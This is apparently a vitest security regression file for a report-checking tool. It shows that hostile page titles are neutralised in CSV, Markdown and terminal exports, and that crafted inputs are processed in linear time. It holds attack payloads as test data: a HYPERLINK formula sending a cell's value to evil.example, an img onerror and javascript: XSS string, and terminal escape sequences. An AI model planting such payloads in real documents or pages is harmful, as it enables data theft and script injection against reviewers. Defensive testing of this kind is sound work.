import { describe, expect, it } from 'vitest';
import { checkText, MAX_FINDINGS_PER_CODE } from '../../lib/check/engine';
import { tableSpan } from '../../lib/extension/editors/apis';
import { findArticle } from '../../lib/read/article';
import { checkHtml, parsePage } from '../../lib/review/html';
import { csvRecord, findingsCsv, reportJson, reviewSheet } from '../../lib/review/export';
import { reportCsvRow, terminalReport } from '../../lib/review/audit';
import { parseCsv } from '../support/csv';
import { settledGrowth, LINEAR } from '../support/growth';
import { tokenize } from '../../lib/read/tokens';

/** Issue 14: each attack from the issue, reproduced, and shown not to work any more. */

const TITLE = '2023年政府信息公开工作年度报告';
const report = (title: string, body = '一、总体情况\n本机关2023年主动公开信息。') => checkText(`${title}\n${body}`);

describe('exports neutralise what a hostile page puts in them', () => {
  it('item 2: a formula in the title reaches no CSV cell live (audit --csv and the panel’s findings CSV)', () => {
    const title = `=HYPERLINK("http://evil.example/?"&A1,"点击")${TITLE}`;
    const r = reportJson(report(title));
    expect(r.unit).toMatch(/^=HYPERLINK/); // the attack reaches the unit column…
    const [row] = parseCsv(reportCsvRow(r));
    expect(row![1]).toBe(`'${r.unit}`); // …and is shown as text
    for (const field of parseCsv(findingsCsv(r)).flat()) expect(field).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('item 2: every formula trigger gets a leading quote, numbers stay numbers', () => {
    const fields = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '＝1', '普通文字', 'a=b'];
    const [row] = parseCsv(csvRecord([...fields, -5, 0]));
    expect(row).toEqual(["'=1+1", "'+1", "'-1", "'@SUM(A1)", "' =1", "'\r=1", "'＝1", '普通文字', 'a=b', '-5', '0']);
  });

  it('item 7: the Markdown review sheet shows page HTML and link syntax as text', () => {
    const r = reportJson(report(`## <img src=x onerror=alert(1)>[点击](javascript:alert(1))${TITLE}`));
    const sheet = reviewSheet(r);
    expect(sheet).not.toMatch(/<img/i);
    expect(sheet).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(sheet).not.toContain('[点击](');
    expect(sheet).toContain('\\[点击\\]');
    // Nothing of the page starts a line of its own: the page text sits in the sheet's own lines only.
    for (const line of sheet.split('\n').filter((l) => l.includes('onerror'))) expect(line).toMatch(/^(## |- 单位：)/);
  });

  it('item 5: control characters in page text never reach the terminal', () => {
    const hostile = `\u001b]0;被改的窗口标题\u0007\u001b[1A\u001b[2K\u009b2J\u202e${TITLE}`;
    const r = reportJson(report(hostile));
    expect(r.title).toContain('\u001b'); // the engine keeps what the page says…
    const out = terminalReport(r);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for control characters is the test
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(out).toContain('被改的窗口标题'); // …the reviewer still sees the words
  });
});

describe('item 3: every text pass is linear on the crafted inputs of the issue', () => {
  const passes: [string, (n: number) => string, (s: string) => unknown, number][] = [
    [
      'an unterminated [bookmark: line (meta)',
      (n) => `${'[bookmark: x'.repeat(n / 12)}\n${TITLE}`,
      (s) => checkText(s),
      20_000,
    ],
    [
      '";2022年x" without a sentence end (year-mismatch)',
      (n) => `${TITLE}\n${';2022年x'.repeat(n / 8)}`,
      (s) => checkText(s),
      20_000,
    ],
    ['lines of [ (parts)', (n) => `${TITLE}\n${'[\n'.repeat(n / 2)}`, (s) => checkText(s), 50_000],
    ['<table  without > (tableSpan)', (n) => '<table '.repeat(n / 7), (s) => tableSpan(s, 0), 50_000],
    // A tab early on, then short lines with none: each line looked for its next tab to the end of the text.
    [
      'short lines without a tab after a tab (table tokens)',
      (n) => `\t\n${'规章 1\n'.repeat(n / 5)}`,
      (s) => tokenize(s, 0, s.length),
      20_000,
    ],
  ];
  for (const [name, make, run, size] of passes)
    it(name, () => {
      expect(settledGrowth(run, make, size)).toBeLessThan(LINEAR);
    });

  it('deep nesting (findArticle) on the CLI page reader', () => {
    const page = (depth: number) =>
      `<html><body>${'<div>'.repeat(depth)}<p>${TITLE}</p><p>政府信息公开 总体情况 主动公开 收到和处理 行政复议</p>${'</div>'.repeat(depth)}</body></html>`;
    expect(
      settledGrowth(
        (d: Document) => findArticle(d),
        (n) => parsePage(page(n)),
        10_000,
      ),
    ).toBeLessThan(LINEAR);
    // From 10,000 levels on: below, the tree fits the CPU's caches and the ratio measures the caches.
    expect(() => checkHtml(page(20_000))).not.toThrow();
  }, 120_000);

  it(`at most ${MAX_FINDINGS_PER_CODE} findings of one code, and one that counts the rest`, () => {
    const r = checkText(`${TITLE}\n${';2022年x'.repeat(20_000)}`);
    const slips = r.findings.filter((f) => f.code === 'year-mismatch');
    expect(slips).toHaveLength(MAX_FINDINGS_PER_CODE + 1);
    expect(slips.at(-1)!.message).toContain(`还有 ${20_000 - MAX_FINDINGS_PER_CODE} 处`);
    expect(JSON.stringify(reportJson(r)).length).toBeLessThan(60_000);
  });
});
